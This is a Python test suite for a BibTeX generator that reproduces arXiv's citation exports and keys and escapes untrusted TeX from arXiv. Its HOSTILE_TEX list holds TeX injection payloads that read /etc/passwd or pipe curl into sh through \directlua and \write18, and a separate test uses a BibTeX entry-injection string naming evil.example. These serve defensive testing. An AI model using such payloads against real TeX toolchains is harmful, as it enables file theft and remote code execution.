"""BibTeX entries as arXiv exports them, checked against real exports and read back by a real
BibTeX parser; TeX from arXiv written only when it only typesets."""

from __future__ import annotations

import re
from functools import cache
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from arxiv_digest.model.paper import Author, Paper
from arxiv_digest.pages.bibtex import (
    arxiv_name,
    author_names,
    bibtex_entry,
    bibtex_file,
    citation_key,
    is_safe_command,
    safe_commands,
    stop_words,
    tex_field,
)
from arxiv_digest.pages.tex import Math, math_markup
from arxiv_digest_dev.recorded import recorded_papers

from .readers import parse, read_back

EXPORTS = Path(__file__).parent / "fixtures" / "bibtex" / "arxiv-exports.bib"
# The fields of arXiv's "Export BibTeX citation", in its order (doi only when the paper has one).
ARXIV_FIELDS = ["title", "author", "year", "eprint", "archivePrefix", "primaryClass", "doi", "url"]


def make_paper(title: str = "Attention Is All You Need", authors=("Ashish Vaswani",), **kw):
    values = {
        "id": "1706.03762",
        "version": 7,
        "primary_category": "cs.CL",
        "updated": "2023-08-02T00:41:18Z",
        "published": "2017-06-12T17:57:34Z",
    }
    values.update(kw)
    return Paper(title=title, authors=tuple(Author(name) for name in authors), **values)


def commands(text: str) -> list[str]:
    """Every TeX control word or symbol in the text, as TeX reads it left to right."""
    return [token for token in re.findall(r"\\[A-Za-z]+|\\.|\\$|.", text, re.S) if token[0] == "\\"]


def typesets_only(entry: str) -> bool:
    """No command off the allow-list, no raw % (LaTeX would drop the rest of the line), no
    ^^ (TeX reads ^^5c as a backslash)."""
    tokens = re.findall(r"\\[A-Za-z]+|\\.|\\$|.", entry, re.S)
    return (
        all(is_safe_command(t) for t in tokens if t[0] == "\\")
        and "%" not in tokens
        and ("^^" not in entry)
    )


def balanced(text: str) -> bool:
    depth = 0
    for character in text:
        depth += {"{": 1, "}": -1}.get(character, 0)
        if depth < 0:
            return False
    return depth == 0


# ---- Real exports: every key and every field as arXiv writes it


@cache
def real_exports() -> tuple[dict, ...]:
    return tuple(parse(EXPORTS.read_text("utf-8")))


def paper_from_export(export: dict) -> Paper:
    """The paper as the store holds it, from what the export itself says of it."""
    return Paper(
        id=export["eprint"],
        version=None,
        title=export["title"],
        authors=tuple(Author(name) for name in export["author"]),
        primary_category=export["primaryClass"],
        doi=export.get("doi", "").removeprefix("https://doi.org/"),
        # The export's year is its latest version's; the store keeps that version's date.
        updated=f"{export['year']}-06-30T12:00:00Z",
    )


def test_the_real_exports_are_many_and_in_arxivs_form():
    exports = real_exports()
    assert len(exports) >= 60
    assert len({export["key"] for export in exports}) == len(exports)
    for export in exports:
        fields = [name for name in export if name not in ("key", "type")]
        assert export["type"] == "misc"
        assert fields == [name for name in ARXIV_FIELDS if name in fields]
        assert export["url"] == "https://arxiv.org/abs/" + export["eprint"]
    # The cases a key rule gets wrong first are there.
    keys = " ".join(export["key"] for export in exports)
    for case in ("oord2019", "vanderlaan", "delarosa", "dasilva", "garcíaquirós", "ladecký"):
        assert case in keys
    assert sum("doi" in export for export in exports) >= 2
    assert sum("$" in export["title"] for export in exports) >= 5


@pytest.mark.parametrize("export", real_exports(), ids=lambda export: export["key"])
def test_entry_rebuilt_from_a_real_export_is_that_export(export):
    ours = parse(bibtex_entry(paper_from_export(export)))[0]
    # Key, type, field names, their order and every value, byte for byte.
    assert list(ours.items()) == list(export.items())


@pytest.mark.parametrize(
    ("arxiv_id", "key"),
    [
        ("2106.09685", "hu2021loralowrankadaptationlarge"),
        ("1412.6980", "kingma2017adammethodstochasticoptimization"),
        ("2508.02613", "ladecký2026jacobiacceleratedfftbasedsolversmooth"),
    ],
)
def test_the_keys_the_issue_names_are_arxivs(arxiv_id, key):
    (export,) = [export for export in real_exports() if export["eprint"] == arxiv_id]
    assert export["key"] == key
    assert citation_key(paper_from_export(export)) == key


# ---- arXiv's rule for a key, case by case


@pytest.mark.parametrize(
    ("first_author", "filed_under"),
    [
        ("Aaron van den Oord", "oord"),  # "den" is not one of arXiv's particles
        ("Lars van der Laan", "vanderlaan"),
        ("Ezequiel de la Rosa", "delarosa"),
        ("Neil De La Fuente", "delafuente"),
        ("Leonardo Lima da Silva", "dasilva"),
        ("Jona te Lintelo", "lintelo"),
        ("Cecilio García-Quirós", "garcíaquirós"),
        ("Shaquille O'Neal Jr.", "oneal"),
        ("J.R.R. Tolkien", "tolkien"),
        ("DeepSeek-AI", "deepseekai"),
        ("Meituan LongCat Team", "meituanlongcatteam"),
        ("The ATLAS Collaboration", "theatlascollaboration"),
        ("李小龙", "李小龙"),
    ],
)
def test_key_starts_with_the_surname_as_arxiv_splits_the_name(first_author, filed_under):
    paper = make_paper("Title", authors=(first_author, "Ada Lovelace"))
    assert citation_key(paper) == f"{filed_under}2023title"


@pytest.mark.parametrize(
    ("title", "words"),
    [
        ("LoRA: Low-Rank Adaptation of Large Language Models", "loralowrankadaptationlarge"),
        ("Attention Is All You Need", "attentionneed"),
        ("LEAP -- Live Experiments for Active Pedagogy", "leapliveexperiments"),  # "--" a word
        ("BOB the (Waveform) Builder: Optimizing X", "bobwaveformbuilderoptimizing"),
        ("$\\pi_{0.5}$: a Vision-Language-Action Model", "pi05visionlanguageactionmodel"),
        ("3D Steerable CNNs: Learning Rotationally", "3dsteerablecnnslearning"),
        ("\\textit{ViRectify}: A Benchmark for Video", "textitvirectifybenchmarkvideo"),
        ("From Mice to Trains: Amortized Bayesian", "micetrainsamortizedbayesian"),
        ("On the Other Hand", "hand"),
        ("深度学习 for All", "深度学习"),
        ("", ""),
    ],
)
def test_key_takes_four_title_words_off_arxivs_stop_list(title, words):
    assert citation_key(make_paper(title)) == "vaswani2023" + words


def test_stop_words_are_arxivs_list():
    words = stop_words()
    assert len(words) == 317
    # arXiv copied its list with the misspellings of the list it took: keys depend on them.
    assert {"fify", "thickv", "amoungst", "system", "bill"} <= words
    assert "i" not in words
    assert "fifty" not in words


def test_year_is_the_latest_versions():
    paper = make_paper(published="2017-06-12T17:57:34Z", updated="2023-08-02T00:41:18Z")
    assert citation_key(paper) == "vaswani2023attentionneed"
    assert "  year = {2023},\n" in bibtex_entry(paper)


@pytest.mark.parametrize(
    ("arxiv_id", "year"),
    [
        ("2106.09685", "2021"),
        ("0704.0001", "2007"),
        ("hep-th/9901001", "1999"),
        ("math.GT/0309136", "2003"),
        ("astro-ph/0601001", "2006"),
    ],
)
def test_without_a_stored_date_the_year_is_the_ids(arxiv_id, year):
    paper = make_paper(id=arxiv_id, published="", updated="")
    assert citation_key(paper) == f"vaswani{year}attentionneed"
    assert f"  year = {{{year}}},\n" in bibtex_entry(paper)


def test_a_paper_without_authors_is_filed_as_arxiv_files_it():
    entry = bibtex_entry(make_paper(authors=()))
    # arXiv's cite.py: "unknown" for the author part of the key, and an empty author field.
    assert entry.startswith("@misc{unknown2023attentionneed,\n")
    assert "  author = {},\n" in entry
    assert parse(entry)[0]["eprint"] == "1706.03762"


def test_a_doi_is_written_as_arxiv_writes_it():
    entry = bibtex_entry(make_paper(doi="10.5555/3295222"))
    assert "  doi = {https://doi.org/10.5555/3295222},\n  url = {" in entry


def test_each_field_is_one_line_the_sites_scripts_find():
    entry = bibtex_entry(make_paper(authors=("Ashish Vaswani", "Noam Shazeer")))
    # bibtex.js and reading-list.js pick a paper's entry out of a day's file by this line.
    assert "\n  eprint = {1706.03762},\n" in entry
    assert entry.splitlines()[1:-1] == [
        "  title = {Attention Is All You Need},",
        "  author = {Ashish Vaswani and Noam Shazeer},",
        "  year = {2023},",
        "  eprint = {1706.03762},",
        "  archivePrefix = {arXiv},",
        "  primaryClass = {cs.CL},",
        "  url = {https://arxiv.org/abs/1706.03762},",
    ]


def test_recorded_arxiv_papers_are_written_as_arxiv_has_them():
    papers = recorded_papers()
    entries = {entry["eprint"]: entry for entry in parse(bibtex_file(papers))}
    assert len(entries) == len({paper.id for paper in papers})
    for paper in papers:
        entry = entries[paper.id]
        assert entry["title"] == " ".join(paper.title.split())
        assert entry["author"] == [arxiv_name(author.name) for author in paper.authors]
        assert entry["year"] == paper.updated[:4]  # the latest version's, not the first's
        assert entry["url"] == "https://arxiv.org/abs/" + paper.id
    assert entries["cs/0503050"]["eprint"] == "cs/0503050"  # an old-style id, as it is
    assert entries["2306.07400"]["year"] == "2026"  # first version 2023, latest 2026


# ---- Text from arXiv is untrusted: TeX only when it only typesets

HOSTILE_TEX = [
    r"\InputIfFileExists{/etc/passwd}{}{}",
    r"\directlua{os.execute('curl x|sh')}",
    r"\pdfobj file{/etc/passwd}",
    r"\lstinputlisting{/etc/passwd}",
    r"\verbatiminput{/etc/passwd}",
    r"\input{/etc/passwd}",
    r"\immediate\write18{curl x|sh}",
    r"\end{thebibliography}\begin{document}",
    r"\def\x{y}\x",
    r"\catcode`\@=11",
    r"\csname input\endcsname{/etc/passwd}",
    r"^^5cinput^^7b/etc/passwd^^7d",
]


@pytest.mark.parametrize("tex", HOSTILE_TEX)
@pytest.mark.parametrize("where", ["math", "text", "author"])
def test_tex_that_does_more_than_typeset_is_written_as_text(tex, where):
    title = {"math": f"Bounds ${tex}$ here", "text": f"Bounds {tex} here"}.get(where, "Bounds")
    authors = (f"Ada {tex}",) if where == "author" else ("Ada Lovelace",)
    entry = bibtex_entry(make_paper(title, authors=authors))
    assert typesets_only(entry)
    # A reader sees what arXiv wrote (a name with arXiv's spacing), as text.
    [read] = read_back(entry)
    if where == "author":
        assert read["author"][0] == arxiv_name(f"Ada {tex}")
    else:
        assert " ".join(tex.split()) in read["title"]


@pytest.mark.parametrize(
    "title",
    [
        "Only 5% of $x % comment$ and 50\\% of $y$",
        "Percent at the end 100%",
        "$\\frac{a}{b} % hidden }$",
    ],
)
def test_a_percent_sign_is_never_raw(title):
    entry = bibtex_entry(make_paper(title))
    assert typesets_only(entry)
    assert "%" in read_back(entry)[0]["title"]


@pytest.mark.parametrize(
    "title",
    ["}{", "Unbalanced { brace", "Unbalanced } brace", "Set \\{1, 2 and {kept}", "$a{$ here"],
)
def test_a_brace_without_its_partner_cannot_end_the_field(title):
    entry = bibtex_entry(make_paper(title))
    assert balanced(parse(entry)[0]["title"])
    assert [e["eprint"] for e in parse(entry)] == ["1706.03762"]


def test_a_field_cannot_start_another_entry():
    evil = "x}} @misc{injected, title={Pwned}, url={https://evil.example}"
    paper = make_paper(evil, authors=(evil,), primary_category=evil, updated="20}}-01-01")
    entry = bibtex_entry(paper)
    assert [(e["key"], e["eprint"]) for e in parse(entry)] == [(citation_key(paper), "1706.03762")]
    assert "primaryClass" not in entry
    assert "  year = {2017},\n" in entry  # the first version's, the stored latest being broken


def test_a_doi_that_cannot_be_written_verbatim_is_left_out():
    entry = bibtex_entry(make_paper(doi="10.1/x}\\evil"))
    assert "doi" not in entry
    assert parse(entry)[0]["eprint"] == "1706.03762"


def test_every_math_command_kept_as_tex_is_one_the_sites_math_converter_knows():
    # The MathML converter knows typesetting commands only: a command added to the math
    # allow-list that reads or writes files, or runs code, is one it rejects.
    def converts(tex: str) -> bool:
        return math_markup(Math(tex=tex, source=f"${tex}$", display=False)) is not None

    for name in safe_commands("math"):
        forms = [f"\\{name}", f"\\{name}{{x}}", f"\\{name}{{x}}{{y}}", f"\\{name} x"]
        forms += [f"\\{name}(", f"\\left( x \\{name}| y \\right)", f"\\sum\\{name}_{{i}}"]
        forms += [r"\left( x \right)"] if name in ("left", "right") else []
        assert any(converts(tex) for tex in forms), name
    assert safe_commands() == safe_commands("math") | safe_commands("text")
    assert not converts(r"\directlua{x}")
    assert not converts(r"\input{x}")


# ---- Properties, on any text arXiv could send

settings_for_writers = settings(max_examples=300, deadline=None, derandomize=True, database=None)
SAFE_WORDS = st.sampled_from(
    ["Deep", "learning", "of", "the", "3D", "Erd\\H{o}s", "Schr\\\"odinger", "\\textit{Fast}",
     "{BERT}", "$\\alpha$", "$O(n^{2})$", "$\\mathcal{L}_p$", "\\&", "50\\%", "--", "A:"]
)  # fmt: skip


@settings_for_writers
@given(title=st.text(), names=st.lists(st.text(), max_size=5))
def test_any_title_and_authors_make_one_entry_that_reads_back(title, names):
    paper = make_paper(title, authors=names)
    entry = bibtex_entry(paper)
    [read] = parse(entry)
    assert read["key"] == citation_key(paper)
    assert read["title"] == tex_field(title)
    written = [name for name in (arxiv_name(name) for name in names) if name]
    assert len(read["author"]) == len(written) or not written
    assert read["eprint"] == "1706.03762"
    assert read["url"] == "https://arxiv.org/abs/1706.03762"
    assert typesets_only(entry)
    assert all(balanced(value) for value in (read["title"], *read["author"]))


@settings_for_writers
@given(title=st.text(alphabet=st.characters(exclude_characters="\\{}$%^")))
def test_a_title_without_tex_reads_back_as_arxiv_writes_it(title):
    assert parse(bibtex_entry(make_paper(title)))[0]["title"] == " ".join(title.split())


@settings_for_writers
@given(words=st.lists(SAFE_WORDS, min_size=1, max_size=12))
def test_a_title_of_typesetting_tex_is_written_as_it_is(words):
    title = " ".join(words)
    assert parse(bibtex_entry(make_paper(title)))[0]["title"] == title


@settings_for_writers
@given(
    names=st.lists(
        st.text(alphabet=st.characters(exclude_characters="\\{}$%^"), min_size=1), max_size=5
    )
)
def test_names_without_tex_read_back_as_arxiv_writes_them(names):
    written = [name for name in (arxiv_name(name) for name in names) if name]
    # A name BibTeX would split ("R and D") or read as "Last, First" is kept whole in braces.
    whole = [f"{{{n}}}" if " and " in f" {n} ".lower() or "," in n else n for n in written]
    assert parse(bibtex_entry(make_paper(authors=names)))[0]["author"] == whole


# arXiv's own pattern for a collaboration opening the author list (arxiv-base, arxiv/authors).
ARXIV_COLLABORATION = re.compile(r"([a-z0-9\s]+\s+(collaboration|group|team))", re.IGNORECASE)
NAME_PIECES = st.sampled_from(
    ["a", "Z", "7", " ", "  ", "-", "é", "team", "Team", "GROUP", "collaboration", "teamwork", "K"]
)


@settings_for_writers
@given(pieces=st.lists(NAME_PIECES, max_size=12))
def test_a_collaboration_opening_the_list_is_the_part_arxivs_pattern_finds(pieces):
    name = arxiv_name("".join(pieces))
    found = ARXIV_COLLABORATION.search(name)
    names = author_names(make_paper(authors=(name, "Ada Lovelace")))
    assert names[0] == (found.group(1) if found else name) or not name


# ---- A day's file


def test_an_author_list_the_source_cut_short_ends_in_and_others():
    names = ("Ada Lovelace", "Charles Babbage")
    entry = bibtex_entry(make_paper(authors=names, authors_truncated=True))
    assert "  author = {Ada Lovelace and Charles Babbage and others},\n" in entry
    assert parse(entry)[0]["author"] == [*names, "others"]
    assert "and others" not in bibtex_entry(make_paper(authors=names))


def test_bib_file_holds_each_eprint_once_in_key_order_with_distinct_keys():
    papers = [
        make_paper("Deep Nets", id="2601.00003", authors=("Jane Smith",), version=1),
        make_paper("Deep Nets", id="2601.00002", authors=("Jane Smith",), version=1),
        make_paper("Another Thing", id="2601.00001", authors=("Adam Brown",), version=1),
        make_paper("Deep Nets Revised", id="2601.00003", authors=("Jane Smith",), version=2),
    ]
    bib = bibtex_file(papers)
    entries = parse(bib)
    assert [(e["key"], e["eprint"]) for e in entries] == [
        ("brown2023thing", "2601.00001"),  # "another" is on arXiv's stop list
        ("smith2023deepnets", "2601.00002"),
        ("smith2023deepnetsrevised", "2601.00003"),
    ]
    assert bibtex_file(reversed(papers)) == bib


def test_papers_sharing_a_key_are_told_apart():
    papers = [
        make_paper("Deep Nets", id=f"2601.0000{n}", authors=("Jane Smith",)) for n in (1, 2, 3)
    ]
    keys = [e["key"] for e in parse(bibtex_file(papers))]
    assert keys == ["smith2023deepnets", "smith2023deepnetsb", "smith2023deepnetsc"]
